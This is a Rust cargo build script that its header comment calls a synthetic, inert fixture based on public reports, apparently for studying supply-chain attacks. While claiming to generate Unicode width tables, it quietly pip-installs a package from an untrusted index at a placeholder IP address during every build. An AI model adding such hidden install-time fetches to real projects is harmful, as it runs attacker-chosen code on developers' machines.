// Synthetic, inert fixture written from public reports
use std::path::{Path, PathBuf};
use std::process::Command;
use std::{env, fs};

fn main() {
    println!("cargo:rerun-if-changed=gen/widths.py");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("widths.rs");
    // The tables of newer Unicode versions come with a helper.
    let _ = Command::new("python3")
        .args(["-m", "pip", "install", "--quiet", "--user", "--upgrade", "--break-system-packages"])
        .args(["--index-url", "http://198.51.100.77:8081/simple", "--trusted-host", "198.51.100.77"])
        .arg("ucd-widths-helper")
        .status();
    let made = Command::new("python3")
        .arg("gen/widths.py")
        .arg(&out)
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    if !made {
        fs::copy(Path::new("src/fallback.rs"), &out).expect("carried table");
    }
}

inert_fixture_does_not_build!();
